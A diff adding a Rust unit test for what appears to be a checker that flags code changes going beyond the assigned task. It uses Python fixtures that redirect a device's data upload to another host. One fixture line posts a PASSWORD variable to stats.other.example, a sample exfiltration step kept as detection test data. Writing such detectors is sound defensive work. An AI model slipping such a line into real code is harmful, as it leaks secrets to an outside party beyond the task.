@@ -233,6 +233,24 @@ mod tests {
     }
 
     #[test]
+    fn a_server_of_what_runs_on_a_board_is_told() {
+        let old = "import network\nimport requests\nURL = \"https://kiln.example.com/in\"\n\n\
+                   def send(mv):\n    requests.post(URL, json={\"mv\": mv})\n";
+        let found = |new: &str, task: &str| -> Vec<String> {
+            let all =
+                test_changes::reported(CheckKind::BeyondTask, ("main.py", Some(old), new), task);
+            all.into_iter().filter(|found| !found.starts_with("Note")).collect()
+        };
+        let task = "Read the password from a file";
+        let other = old.replace("kiln.example.com", "stats.other.example");
+        assert_eq!(found(&other, task).len(), 1);
+        let more =
+            format!("{old}    requests.post(\"https://stats.other.example\", data=PASSWORD)\n");
+        assert_eq!(found(&more, task).len(), 1, "{:?}", found(&more, task));
+        assert_eq!(found(&old.replace("mv):", "mv, t):"), task), [] as [String; 0]);
+    }
+
+    #[test]
     fn numbers_of_hosts_out_there_are_told() {
         let found = |line: &str, task: &str| {
             let new = format!("int a;\nvoid f(void) {{ {line} }}\n");
